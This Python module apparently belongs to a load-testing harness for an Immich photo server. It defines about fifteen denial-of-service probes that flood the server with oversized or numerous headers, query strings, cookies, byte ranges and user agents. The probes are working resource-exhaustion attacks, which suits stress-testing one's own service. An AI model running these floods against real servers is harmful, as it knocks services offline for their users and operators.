"""Request targets and header fields that are large, many or expensive to read."""

import itertools

from attacks import attack
from load import Target, exchanges, flood


def filled(target: Target, *headers: tuple[str, str], path: str = "/users/me") -> bytes:
    return target.request("GET", path, *headers, token=target.user.token)


@attack("i")
async def many_headers(target: Target) -> None:
    """90 header fields of 150 bytes"""
    request = filled(target, *((f"X-Header-{number}", "v" * 150) for number in range(90)))
    await flood(target, lambda: request)


@attack("i")
async def too_many_headers(target: Target) -> None:
    """1,000 header fields"""
    request = filled(target, *((f"X{number}", "v") for number in range(1_000)))
    await flood(target, lambda: request)


@attack("i")
async def large_heads(target: Target) -> None:
    """a head of 300 KB"""
    request = filled(target, ("X-Large", "v" * 300_000))
    await flood(target, lambda: request, batch=1)


@attack("i")
async def endless_heads(target: Target) -> None:
    """heads without end"""
    await flood(target, lambda: b"X: " + b"v" * 16_000 + b"\r\n", connections=64, batch=1)


@attack("i")
async def query_strings(target: Target) -> None:
    """queries of 60 KB with 10,000 parameters"""
    request = filled(target, path="/users/me?" + "a=%41&" * 10_000)
    await flood(target, lambda: request, batch=1)


@attack("i")
async def nested_queries(target: Target) -> None:
    """queries whose parameter is nested 10,000 deep"""
    request = filled(target, path="/users/me?apiKey" + "[a]" * 10_000 + "=1")
    await flood(target, lambda: request, batch=1)


@attack("i")
async def cookies(target: Target) -> None:
    """2,000 cookies with percent escapes"""
    request = filled(target, ("Cookie", ";".join(f"c{number}=%41" for number in range(1_500))))
    await flood(target, lambda: request, batch=4)


@attack("i")
async def entity_tags(target: Target) -> None:
    """If-None-Match with 2,000 entity tags"""
    request = filled(target, ("If-None-Match", ",".join(f'"{number:04}"' for number in range(2_000))))
    await flood(target, lambda: request, batch=4)


@attack("i")
async def ranges(target: Target) -> None:
    """2,000 ranges of the largest file"""
    value = "bytes=" + ",".join(f"{number}-{number}" for number in range(1_500))
    request = target.request("GET", "/docs/swagger-ui-bundle.js", ("Range", value), ("If-Range", '"x"'))
    await flood(target, lambda: request, connections=4, batch=1)


@attack("i")
async def accepted_encodings(target: Target) -> None:
    """Accept-Encoding with 2,000 entries"""
    request = filled(target, ("Accept-Encoding", ",".join(f"x{number};q=0.{number}" for number in range(1_000))))
    await flood(target, lambda: request, batch=4)


@attack("i")
async def forwarded_chains(target: Target) -> None:
    """X-Forwarded-For with 1,000 addresses, and Forwarded with 300"""
    chain = ",".join(f"10.0.{number // 250}.{number % 250}" for number in range(700))
    forwarded = ",".join(f'for="[2001:db8::{number:x}]:1"' for number in range(200))
    request = filled(target, ("X-Forwarded-For", chain), ("Forwarded", forwarded))
    await flood(target, lambda: request, batch=4)


@attack("i")
async def correlation_ids(target: Target) -> None:
    """a correlation id of 10 KB each, and another one each time"""
    numbers = itertools.count()
    await flood(target, lambda: filled(target, ("x-immich-cid", f"{next(numbers)}" + "c" * 10_000)), batch=4)


@attack("i")
async def user_agents(target: Target) -> None:
    """User-Agents of 10 KB that fit many patterns halfway, which a session records"""
    parts = "Mozilla/5.0 (Linux; Android 10; " + "SM-G" * 2_000 + " Build/" + "Mobile Safari" * 100
    numbers = itertools.count()
    await exchanges(target, lambda: filled(target, ("User-Agent", f"Immich_Android_{next(numbers)}{parts}")))


@attack("i")
async def versions_of_the_app(target: Target) -> None:
    """another version of the app in each request, which a session records"""
    numbers = itertools.count()
    await exchanges(target, lambda: filled(target, ("User-Agent", f"Immich_Android_1.{next(numbers)}")), connections=32)
